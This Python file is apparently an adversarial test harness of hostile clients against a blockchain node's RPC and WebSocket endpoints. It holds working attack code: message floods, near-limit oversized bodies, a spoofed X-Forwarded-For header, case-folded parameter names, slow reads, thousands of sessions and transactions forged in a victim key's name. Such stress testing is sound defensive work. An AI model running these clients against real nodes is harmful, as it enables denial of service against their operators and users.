"""Hostile clients that mislead what decides: prices, places, identity, order. One connection of KIND each. See README.md."""

import asyncio
import base64
import json

from attacker import (
    ADDRESS, DONE, addresses, answer, beside_answers, connect, cosmos_tx, drop_answers, frame, kvstore_tx, never, post,
    request, send, small_frame, upgrade, write_of,
)  # fmt: skip

# An attacker that wants all answers taken has room for them.
ROOM = 1 << 16
GREEDY_ADDRESS = "127.0.0.60"
# A body of one byte less than the node's limit, which a longer envelope puts above it.
PILL_BYTES = 999_999
FLOOD_BYTES = 1 << 16
# The key in whose name transactions are forged; its owner is a probe.
VICTIM_KEY = b"\x02" + b"\x22" * 32


async def greedy(port, _):
    """No attack: a client that offers more than its share, beside every variant of attacks on what is short."""
    await offer_more(port, GREEDY_ADDRESS)


async def twin(port, _):
    """The same from the attacker's address: what it does there without the attack."""
    await offer_more(port, ADDRESS)


async def offer_more(port, address):
    reader, writer = await upgrade(port, address, ROOM)

    async def writing():
        while True:
            for _ in range(20):
                send(writer, frame(write_of(250).encode()))
            await writer.drain()
            await asyncio.sleep(0.04)

    await beside_answers(reader, writing())


async def gas(port, _):
    reader, writer = await upgrade(port, ADDRESS, ROOM)

    async def writing():
        while True:
            for _ in range(6):
                send(writer, frame(request(cosmos_tx(1 << 63)).encode()))
            await writer.drain()
            await asyncio.sleep(1)

    await beside_answers(reader, writing())


async def unpriced(port, number):
    """The id makes it an unusual one; every fourth writes nothing at all."""
    reader, writer = await connect(port, ADDRESS, ROOM)
    while True:
        send(writer, post(request(b"" if number % 4 == 3 else kvstore_tx(250), id_=1.0)))
        await answer(reader)


async def pill(port, _):
    begin, end = '{"id":1,"method":"broadcast_tx_sync","params":["', '"]}'
    letters = (PILL_BYTES - len(begin) - len(end)) // 4 * 4
    reader, writer = await connect(port, ADDRESS, ROOM)
    while True:
        body = begin + base64.b64encode(kvstore_tx(letters // 4 * 3)).decode() + end
        send(writer, post(body.ljust(PILL_BYTES)))
        await writer.drain()
        await answer(reader)
        await asyncio.sleep(1)


async def folded(port, number):
    reader, writer = await upgrade(port, ADDRESS, ROOM)
    name = ("paramſ", "PARAMS", "Params")[number % 3]
    text = f'{{"jsonrpc":"2.0","id":1,"method":"subscribe","params":{{}},"{name}":{{"query":"tm.event=\'NewBlock\'"}}}}'
    send(writer, frame(text.encode()))
    await drop_answers(reader)


async def balanced(port, _):
    """Behind the trusted proxy, all for one client."""
    _, writer = await connect(port)
    size = 900_000
    head = f"POST / HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 203.0.113.9\r\nContent-Length: {size}\r\n\r\n"
    send(writer, head.encode() + b" " * (size - 1))
    await never(writer)


async def flood(port, piece):
    """The same small message without end."""
    reader, writer = await upgrade(port, ADDRESS, ROOM)
    await beside_answers(reader, repeat(writer, piece))


async def repeat(writer, piece):
    count = FLOOD_BYTES // len(piece)
    while True:
        writer.write(piece * count)
        DONE["sent"] += count
        await writer.drain()


async def empties(port, _):
    await flood(port, small_frame(b"{}"))


async def pings(port, _):
    await flood(port, small_frame(b"", first=0x89))


async def refusals(port, _):
    await flood(port, small_frame(b'{"jsonrpc":"2.0","id":1,"method":"unsafe_flush_mempool"}'))


async def emptyposts(port, _):
    reader, writer = await connect(port, ADDRESS, ROOM)
    await beside_answers(reader, repeat(writer, post("{}")))


async def places(port, number):
    reader, writer = await connect(port, addresses(8)[number % 8])
    send(writer, f"GET /block?height={await largest_block(port)} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    while True:
        # 24 kB a second: quick enough never to be given up.
        await reader.readexactly(12_000)
        await asyncio.sleep(0.5)


LARGEST = {}


async def largest_block(port):
    """Asked once; the others wait for it."""
    if port not in LARGEST:
        LARGEST[port] = asyncio.ensure_future(ask_largest_block(port))
    try:
        return await asyncio.shield(LARGEST[port])
    except (OSError, KeyError, ValueError):
        LARGEST.pop(port, None)
        raise


async def ask_largest_block(port):
    reader, writer = await connect(port, ADDRESS, ROOM)
    send(writer, b"GET /blockchain HTTP/1.1\r\nHost: x\r\n\r\n")
    _, body = await answer(reader)
    metas = json.loads(body)["result"]["block_metas"]
    writer.close()
    return max(metas, key=lambda meta: int(meta["block_size"]))["header"]["height"]


async def heads(port, number):
    reader, writer = await connect(port, addresses(3)[number % 3], ROOM)

    async def writing():
        while True:
            send(writer, b"HEAD /status HTTP/1.1\r\nHost: x\r\n\r\n")
            await writer.drain()
            await asyncio.sleep(0.013)

    await beside_answers(reader, writing())


async def unusual(port, _):
    reader, writer = await connect(port, ADDRESS, ROOM)
    while True:
        send(writer, post(request(kvstore_tx(100), "broadcast_tx_sync", 1.0)))
        await answer(reader)


async def checks(port, number):
    reader, writer = await connect(port, addresses(2)[number % 2], ROOM)
    while True:
        send(writer, post(write_of(100, "check_tx")))
        await answer(reader)


async def waiters(port, _):
    reader, writer = await upgrade(port, ADDRESS, ROOM)

    async def writing():
        while True:
            send(writer, frame(write_of(100, "broadcast_tx_commit").encode()))
            await writer.drain()
            await asyncio.sleep(0.01)

    await beside_answers(reader, writing())


async def signers(port, _):
    reader, writer = await upgrade(port, ADDRESS, ROOM)

    async def writing():
        while True:
            for _ in range(90):
                send(writer, frame(write_of(100).encode()))
            send(writer, frame(request(cosmos_tx(200_000, VICTIM_KEY)).encode()))
            await writer.drain()

    await beside_answers(reader, writing())


async def sessions(port, number):
    _, writer = await upgrade(port, addresses(20)[number % 20])
    while True:
        send(writer, frame(write_of(11_000).encode()))
        await writer.drain()
        await asyncio.sleep(0.1)


# How many of each at once.
KINDS = {
    greedy: 8, twin: 8, gas: 2, unpriced: 100, pill: 1, folded: 130, balanced: 300, empties: 50, pings: 50, refusals: 50,
    emptyposts: 50, places: 256, heads: 6, unusual: 60, checks: 32, waiters: 4, signers: 1, sessions: 5000,
}  # fmt: skip
